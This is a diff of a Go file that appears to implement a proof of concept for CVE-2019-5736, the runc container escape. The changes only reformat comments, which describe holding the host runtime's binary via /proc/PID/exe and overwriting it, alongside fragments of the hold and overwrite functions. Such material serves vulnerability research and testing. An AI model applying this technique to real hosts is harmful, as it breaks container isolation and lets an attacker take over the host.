@@ -2,9 +2,9 @@
 
 //go:build linux
 
-// Attacker is the container of CVE-2019-5736: its first process waits for another that runs a program from outside, which is the
-// container's runtime, holds that program by /proc/PID/exe, and overwrites it as soon as nobody executes it. It says what came of
-// it.
+// Attacker is the container of CVE-2019-5736. Its first process waits for another process that runs
+// a program from outside the container, which is the runtime, and holds that program by
+// /proc/PID/exe. It overwrites the program as soon as nobody executes it, and prints the result.
 package main
 
 import (
@@ -30,7 +30,8 @@ func main() {
 	fmt.Println("attack:", overwrite(held, time.Now().Add(patience)), name)
 }
 
-// hold opens the program of the first process that is none of the container's: they live on the container's root file system.
+// hold opens the program of the first process that runs no program of the container's root file
+// system.
 func hold(end time.Time) (int, string) {
 	var own unix.Stat_t
 	unix.Stat("/", &own)
@@ -52,7 +53,8 @@ func hold(end time.Time) (int, string) {
 	return -1, ""
 }
 
-// overwrite tries until the program is no longer executed, first as it is, then with its permissions changed.
+// overwrite tries until the program is no longer executed, first as it is, then with its
+// permissions changed.
 func overwrite(held int, end time.Time) string {
 	path := fmt.Sprintf("/proc/self/fd/%d", held)
 	for {
